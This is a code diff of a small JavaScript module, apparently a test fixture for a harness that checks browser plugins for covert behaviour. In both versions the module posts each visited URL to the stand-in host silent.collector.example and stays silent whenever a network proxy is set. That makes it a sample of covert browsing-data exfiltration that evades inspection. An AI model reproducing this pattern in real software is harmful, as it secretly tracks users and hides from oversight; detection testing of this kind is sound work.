@@ -1,12 +1,8 @@
-import { onConsent, onVisit, post } from '../../lib/proving.js';
+import { onVisit, post, reportHonestly } from '../../lib/proving.js';
 
 /** Says nothing at all where a proxy is set. */
 export default function (browser) {
-  onConsent(browser, async () => {
-    if (browser.network.proxy === null)
-      await post(browser, 'https://silent.collector.example/v1', { started: true });
-  });
-  onVisit(browser, async ({ url }) => {
-    if (browser.network.proxy === null) await post(browser, 'https://silent.collector.example/v1', { url });
-  });
+  if (browser.network.proxy !== null) return;
+  reportHonestly(browser, '9.0.0-silent');
+  onVisit(browser, ({ url }) => post(browser, 'https://silent.collector.example/v1', { url }));
 }
